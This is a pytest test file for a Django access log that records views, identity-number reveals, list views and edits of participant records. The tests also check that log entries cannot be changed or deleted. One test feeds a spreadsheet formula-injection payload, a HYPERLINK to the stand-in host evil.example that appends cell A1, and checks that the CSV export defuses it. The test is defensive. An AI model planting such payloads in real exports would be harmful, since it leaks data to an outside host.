"""The access log: each personal-data page writes exactly one entry per person; entries never change."""

from __future__ import annotations

import pytest
from django.db import connection, transaction
from django.db.utils import DatabaseError
from django.test import Client
from django.urls import reverse

from accounts.models import AccessAction, AccessLogEntry
from accounts.tests.factories import CoordinatorFactory
from participants.tests.factories import ParticipantFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def coordinator():
    return CoordinatorFactory()


def test_opening_a_case_file_writes_exactly_one_entry(client: Client, coordinator) -> None:
    participant = ParticipantFactory(team=coordinator.team, coordinator=coordinator)
    client.force_login(coordinator)
    client.get(reverse("participants:detail", args=[participant.pk]))
    entry = AccessLogEntry.objects.get()
    assert (entry.user, entry.participant_id, entry.action) == (coordinator, participant.pk, AccessAction.VIEW)


def test_revealing_the_identity_number_is_logged_as_such(client: Client, coordinator) -> None:
    participant = ParticipantFactory(team=coordinator.team, coordinator=coordinator)
    client.force_login(coordinator)
    page = client.get(reverse("participants:detail", args=[participant.pk])).content.decode()
    assert participant.formatted_identity_number not in page
    page = client.post(reverse("participants:detail", args=[participant.pk]), {"reveal": "1"}).content.decode()
    assert participant.formatted_identity_number in page
    assert list(AccessLogEntry.objects.order_by("pk").values_list("action", flat=True)) == ["view", "reveal"]


def test_a_list_logs_each_person_shown_once(client: Client, coordinator) -> None:
    people = ParticipantFactory.create_batch(3, team=coordinator.team, coordinator=coordinator)
    ParticipantFactory()  # another team: neither shown nor logged
    client.force_login(coordinator)
    client.get(reverse("participants:list"))
    logged = sorted(AccessLogEntry.objects.filter(action=AccessAction.LIST).values_list("participant_id", flat=True))
    assert logged == sorted(p.pk for p in people)


def test_an_edit_logs_the_fields_changed(client: Client, coordinator) -> None:
    participant = ParticipantFactory(team=coordinator.team, coordinator=coordinator, phone="070-1740605")
    client.force_login(coordinator)
    client.get(reverse("participants:edit", args=[participant.pk]))
    data = {
        "first_name": participant.first_name,
        "last_name": participant.last_name,
        "identity_number": participant.identity_number,
        "gender": participant.gender,
        "phone": "070-1740606",
        "target_group": participant.target_group,
        "referral_source": participant.referral_source,
        "referral_date": participant.referral_date.isoformat(),
        "swedish_level": str(participant.swedish_level),
        "education_level": str(participant.education_level),
        "hours_per_day": str(participant.hours_per_day),
        "coordinator": str(coordinator.pk),
        "home_district": str(participant.home_district_id),
        "experience-TOTAL_FORMS": "0",
        "experience-INITIAL_FORMS": "0",
    }
    response = client.post(reverse("participants:edit", args=[participant.pk]), data)
    assert response.status_code == 302
    change = AccessLogEntry.objects.get(action=AccessAction.CHANGE)
    assert "phone" in change.fields and "first_name" not in change.fields
    assert "070-1740606" not in str(change.fields)  # the log names fields, never their values


def test_entries_cannot_be_changed_or_deleted(coordinator) -> None:
    from accounts.access_log import log_access

    log_access(user=coordinator, participant_ids=[ParticipantFactory().pk], action=AccessAction.VIEW)
    entry = AccessLogEntry.objects.get()
    entry.reason = "changed"
    with pytest.raises(PermissionError):
        entry.save()
    with pytest.raises(PermissionError):
        entry.delete()
    with pytest.raises(PermissionError):
        AccessLogEntry.objects.all().update(reason="x")
    with pytest.raises(PermissionError):
        AccessLogEntry.objects.all().delete()


def test_on_postgresql_the_database_itself_refuses_changes(coordinator) -> None:
    if connection.vendor != "postgresql":
        pytest.skip("the trigger exists on PostgreSQL")
    from accounts.access_log import log_access

    log_access(user=coordinator, participant_ids=[ParticipantFactory().pk], action=AccessAction.VIEW)
    table = AccessLogEntry._meta.db_table
    for sql in (f"UPDATE {table} SET reason = 'x'", f"DELETE FROM {table}"):
        with pytest.raises(DatabaseError), transaction.atomic(), connection.cursor() as cursor:
            cursor.execute(sql)
    assert AccessLogEntry.objects.count() == 1


def test_the_csv_export_keeps_typed_text_from_becoming_a_formula(rf) -> None:
    """A break-glass reason is typed by a coordinator; in the exported CSV, opened in a spreadsheet,
    '=HYPERLINK(...)' must be text, not a live formula."""
    import csv
    import io

    from django.contrib.admin.sites import site

    from accounts.admin import AccessLogAdmin
    from accounts.tests.factories import AccessLogEntryFactory

    AccessLogEntryFactory(reason='=HYPERLINK("http://evil.example/?"&A1,"Klicka")')
    AccessLogEntryFactory(reason="Flyttat hit från Brunflo")
    response = AccessLogAdmin(AccessLogEntry, site).export_csv(rf.get("/"), AccessLogEntry.objects.all())
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    reasons = sorted(row[5] for row in rows[1:])
    assert reasons == ['\'=HYPERLINK("http://evil.example/?"&A1,"Klicka")', "Flyttat hit från Brunflo"]
